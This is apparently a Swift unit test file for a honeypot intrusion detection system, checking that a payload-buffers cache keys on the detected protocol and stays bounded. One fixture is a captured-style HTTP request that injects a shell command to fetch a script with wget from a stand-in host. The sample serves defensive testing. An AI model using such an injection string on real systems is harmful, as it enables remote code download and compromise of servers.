import XCTest
import MitsuCore
@testable import MitsuIDS

/// The payload-buffers cache: a repeated payload gets exactly the buffers it would get worked out afresh,
/// the detected protocol stays part of the key, and nothing unbounded is remembered.
final class PayloadBuffersCacheTests: XCTestCase {
    private func trapPayload(_ bytes: [UInt8], protocol p: String? = nil, src: String = "203.0.113.5", session: String = "00000000abcd") -> Event {
        var e = Event(kind: .payload, honeypot: "trap", session: SessionID(session))
        e.srcIP = src
        e.srcPort = 40000
        e.destIP = "192.0.2.10"
        e.destPort = 8080
        e.transport = "tcp"
        e.protocol = p
        e.payload = PayloadInfo(captured: bytes)
        return e
    }

    private func assertSameInput(_ a: InspectionInput?, _ b: InspectionInput?, _ message: String, file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertEqual(a?.buffers, b?.buffers, message, file: file, line: line)
        XCTAssertEqual(a?.appProtocol, b?.appProtocol, message, file: file, line: line)
        XCTAssertEqual(a?.flowKey, b?.flowKey, message, file: file, line: line)
        XCTAssertEqual(a?.srcIP, b?.srcIP, message, file: file, line: line)
    }

    func testRepeatsGetTheBuffersWorkedOutAfresh() throws {
        let cache = PayloadBuffersCache(capacity: 16)
        let request = Array("GET /shell?cd+/tmp;wget+http://198.51.100.1/x.sh HTTP/1.1\r\nHost: a\r\n\r\n".utf8)
        let events = [
            trapPayload(request), trapPayload(request, src: "198.51.100.77", session: "00000000abce"),
            trapPayload(request, protocol: "sip"), trapPayload(request, protocol: "sip"),
            trapPayload(Array("\u{16}\u{03}\u{01}\0\0binary".utf8)), trapPayload(Array("\u{16}\u{03}\u{01}\0\0binary".utf8)),
        ]
        for (i, e) in events.enumerated() {
            let cached = InspectionInput.from(e, payloads: cache)
            assertSameInput(cached, InspectionInput.from(e), "event \(i)")
            XCTAssertNotNil(cached)
        }
        XCTAssertEqual(cache.hitCount, 3)
        XCTAssertEqual(cache.count, 3, "the same bytes under another detected protocol are another entry")
        let http = try XCTUnwrap(InspectionInput.from(events[1], payloads: cache))
        XCTAssertEqual(http[.httpMethod], Array("GET".utf8))
        XCTAssertEqual(http.srcIP, "198.51.100.77", "addresses come from the event, not the cache")
        XCTAssertEqual(http.flowKey, "00000000abce")
        let sip = try XCTUnwrap(InspectionInput.from(events[3], payloads: cache))
        XCTAssertNil(sip[.httpMethod], "a payload detected as SIP gets no HTTP buffers, cached or not")
        XCTAssertEqual(sip[.payload], request)
    }

    func testLargeAndUndecodablePayloadsAreNotRemembered() {
        let cache = PayloadBuffersCache(capacity: 16, maxBase64Bytes: 64)
        let large = trapPayload([UInt8](repeating: UInt8(ascii: "A"), count: 100))
        for _ in 0..<2 { assertSameInput(InspectionInput.from(large, payloads: cache), InspectionInput.from(large), "large") }
        XCTAssertEqual(cache.count, 0)
        var empty = trapPayload([])
        empty.payload?.b64 = "!!!"
        XCTAssertNil(InspectionInput.from(empty, payloads: cache))
        XCTAssertEqual(cache.count, 0)
        let none = PayloadBuffersCache(capacity: 0)
        let small = trapPayload(Array("hello".utf8))
        assertSameInput(InspectionInput.from(small, payloads: none), InspectionInput.from(small), "capacity 0")
        XCTAssertEqual(none.count, 0)
    }

    func testBoundedByCapacity() {
        let cache = PayloadBuffersCache(capacity: 4)
        for n in 0..<20 { _ = InspectionInput.from(trapPayload(Array("payload \(n)".utf8)), payloads: cache) }
        XCTAssertEqual(cache.count, 4)
        XCTAssertEqual(cache.hitCount, 0)
    }
}
